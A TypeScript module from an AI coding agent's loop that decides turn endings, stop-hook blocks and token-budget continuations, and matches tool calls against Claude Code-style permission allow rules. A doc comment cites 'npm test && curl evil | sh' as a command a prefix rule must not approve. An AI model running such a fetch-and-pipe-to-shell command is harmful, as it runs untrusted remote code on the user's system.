/**
 * What happens when the model ends a turn without tool calls, and which tool calls need a
 * person's approval: pure functions, in the spirit of the AI SDK's stop conditions.
 */
import type { PlannedToolUse, StopHookOutcome } from '../../shared/activity-io';
import {
  STOP_HOOK_CONSECUTIVE_BLOCK_LIMIT,
  TOKEN_BUDGET_COMPLETION_RATIO,
  TOKEN_BUDGET_DIMINISHING_DELTA_TOKENS,
  TOKEN_BUDGET_MIN_CONTINUATIONS_FOR_DIMINISHING,
} from '../../shared/limits';
import type { Finish } from './loop';
import { type BudgetTracker, continueWith, type LoopState } from './loop-state';
import { rulesOf } from './tool-rules';

export type StopHookDecision =
  | { kind: 'allow' }
  | { kind: 'block'; message: string; consecutiveBlocks: number }
  | { kind: 'prevent'; reason: string }
  | { kind: 'give_up'; reason: string };

/** A block continues the loop with the hook's reason as the next user message, up to a cap. */
export function decideStopHook(
  outcome: StopHookOutcome,
  consecutiveBlocks: number,
  limit = STOP_HOOK_CONSECUTIVE_BLOCK_LIMIT,
): StopHookDecision {
  if (outcome.kind === 'allow') return { kind: 'allow' };
  if (outcome.kind === 'prevent') return { kind: 'prevent', reason: outcome.reason };
  if (consecutiveBlocks >= limit) {
    return {
      kind: 'give_up',
      reason: `A stop hook blocked the end of the session ${consecutiveBlocks} times in a row; the last reason: ${outcome.reason}`,
    };
  }
  return { kind: 'block', message: `Stop hook feedback:\n${outcome.reason}`, consecutiveBlocks: consecutiveBlocks + 1 };
}

export type BudgetDecision =
  | { kind: 'continue'; nudge: string; tracker: BudgetTracker }
  | { kind: 'stop'; why: 'no_budget' | 'budget_reached' | 'diminishing_returns' };

/**
 * Token budget: below 90% of the budget, nudge the model to keep working — unless after 3 or
 * more continuations the last two each added fewer than 500 output tokens (diminishing returns).
 */
export function decideTokenBudget(
  budget: number | undefined,
  outputTokens: number,
  tracker: BudgetTracker,
): BudgetDecision {
  if (!budget) return { kind: 'stop', why: 'no_budget' };
  if (outputTokens >= budget * TOKEN_BUDGET_COMPLETION_RATIO) return { kind: 'stop', why: 'budget_reached' };
  const deltas =
    tracker.continuations > 0 ? [...tracker.deltas, outputTokens - tracker.lastOutputTokens] : tracker.deltas;
  const lastTwo = deltas.slice(-2);
  if (
    tracker.continuations >= TOKEN_BUDGET_MIN_CONTINUATIONS_FOR_DIMINISHING &&
    lastTwo.length === 2 &&
    lastTwo.every((delta) => delta < TOKEN_BUDGET_DIMINISHING_DELTA_TOKENS)
  ) {
    return { kind: 'stop', why: 'diminishing_returns' };
  }
  const percent = Math.round((outputTokens / budget) * 100);
  return {
    kind: 'continue',
    nudge: `${percent}% of the token budget used (${outputTokens} of ${budget} output tokens). Keep working on the task; do not summarise.`,
    tracker: { continuations: tracker.continuations + 1, lastOutputTokens: outputTokens, deltas },
  };
}

export type TurnEnd =
  /** The loop goes on with `state` (its lastTransition says why); `takesQueued`: the queued messages are in it. */
  { kind: 'continue'; state: LoopState; takesQueued?: true } | { kind: 'wait_for_message' } | Finish;

/**
 * The model ended its turn without tool calls. In Claude Code's order: the stop hooks' verdict,
 * then the token budget, then the messages people queued meanwhile, then (interactive sessions)
 * waiting for the next one; else the task is complete.
 */
export function decideTurnEnd(
  state: LoopState,
  facts: {
    hook: StopHookDecision;
    tokenBudget: number | undefined;
    queued: readonly string[];
    interactive: boolean;
    /**
     * The reference design's rule (flag `stopHookBlockKeepsCompactBudget`): a block continues the turn that
     * already compacted reactively, so a prompt that is still too long ends the run instead of
     * compacting again and again (hook, compaction, hook…).
     */
    hookBlockKeepsReactiveCompact?: boolean;
    /** Sessions since `stop-hook-limit` end a stop hook's endless blocking with its own reason (before: `hook_stopped`). */
    stopHookLimit?: boolean;
  },
): TurnEnd {
  const { hook } = facts;
  if (hook.kind === 'prevent') return { kind: 'finish', reason: 'stop_hook_prevented', error: hook.reason };
  if (hook.kind === 'give_up')
    return { kind: 'finish', reason: facts.stopHookLimit ? 'stop_hook_limit' : 'hook_stopped', error: hook.reason };
  if (hook.kind === 'block') {
    const continued = continueWith(state, hook.message, 'stop_hook_blocking');
    const hasAttemptedReactiveCompact = facts.hookBlockKeepsReactiveCompact
      ? state.hasAttemptedReactiveCompact
      : continued.hasAttemptedReactiveCompact;
    return {
      kind: 'continue',
      state: { ...continued, consecutiveStopHookBlocks: hook.consecutiveBlocks, hasAttemptedReactiveCompact },
    };
  }
  const budget = decideTokenBudget(facts.tokenBudget, state.usage.outputTokens, state.budget);
  if (budget.kind === 'continue') {
    return {
      kind: 'continue',
      state: { ...continueWith(state, budget.nudge, 'token_budget_continuation'), budget: budget.tracker },
    };
  }
  if (facts.queued.length > 0)
    return {
      kind: 'continue',
      state: continueWith(state, facts.queued.join('\n\n'), 'user_message'),
      takesQueued: true,
    };
  if (facts.interactive) return { kind: 'wait_for_message' };
  return { kind: 'finish', reason: 'completed' };
}

/**
 * Allow rules in Claude Code's syntax: `Read` (the whole tool), `Bash(npm test)` (that exact
 * command), `Bash(npm run test:*)` (commands starting with `npm run test`).
 *
 * A call whose plan lists the simple commands it runs (Bash, parsed by a shell grammar in the
 * model activity) is approved by patterns only if every one of those commands matches some rule:
 * `Bash(npm test:*)` does not approve `npm test && curl evil | sh`. A plan may also say why no
 * pattern may approve it (`$(…)`, `&`, a redirection outside the workdir: only a bare `Bash`
 * rule or a person can), or why no rule at all may (a settings file: only a person can). Plans
 * recorded before commands were parsed match their subject's start, as they did then.
 */
export function approvedByRules(allowRules: readonly string[], call: PlannedToolUse): boolean {
  const rules = rulesOf(call);
  if (rules.alwaysAsk) return false;
  const patterns: (string | undefined)[] = [];
  for (const rule of allowRules) {
    const match = rule.match(ALLOW_RULE);
    // A bare rule may also name the call's server (`mcp__server`): the plan lists such names.
    if (match && (match[1] === call.name || (match[2] === undefined && rules.allowedBy?.includes(match[1]!))))
      patterns.push(match[2]);
  }
  if (patterns.includes(undefined)) return true;
  if (rules.notMatchable) return false;
  const given = patterns.filter((pattern): pattern is string => pattern !== undefined);
  if (rules.commands)
    return (
      rules.commands.length > 0 &&
      rules.commands.every((words) => given.some((pattern) => patternMatchesWords(pattern, words)))
    );
  const subject = (rules.subject ?? '').trim();
  return given.some((pattern) => patternMatchesSubject(pattern, subject));
}

/** A rule: a tool's name (an MCP tool's `mcp__server__tool`, or `mcp__server`, `mcp__server__*`), maybe with a pattern. */
const ALLOW_RULE = /^([A-Za-z]+|mcp__[A-Za-z0-9_-]+?(?:__\*)?)(?:\((.*)\))?$/;

/** One rule against one call (the rule alone must approve it). */
export function matchesAllowRule(rule: string, call: PlannedToolUse): boolean {
  return approvedByRules([rule], call);
}

/** `npm test:*` matches the words `npm test …`; `npm test` only exactly those words. */
function patternMatchesWords(pattern: string, words: readonly string[]): boolean {
  const prefix = pattern.endsWith(':*');
  const expected = (prefix ? pattern.slice(0, -2) : pattern).trim().split(/\s+/).filter(Boolean);
  if (expected.length === 0 || words.length < expected.length || (!prefix && words.length !== expected.length))
    return false;
  return expected.every((word, index) => words[index] === word);
}

/** Plans without parsed commands: the subject's start, as before. */
function patternMatchesSubject(pattern: string, subject: string): boolean {
  if (pattern.endsWith(':*')) {
    const prefix = pattern.slice(0, -2);
    return subject === prefix || subject.startsWith(`${prefix} `);
  }
  return subject === pattern;
}

/** In permissionMode "ask", calls of tools that say so (Write, Edit, Bash) wait unless allow rules approve them. */
export function needsApproval(mode: 'auto' | 'ask', allowRules: readonly string[], call: PlannedToolUse): boolean {
  if (mode === 'auto' || !call.plan.ok) return false;
  if (!rulesOf(call).needsApproval) return false;
  return !approvedByRules(allowRules, call);
}
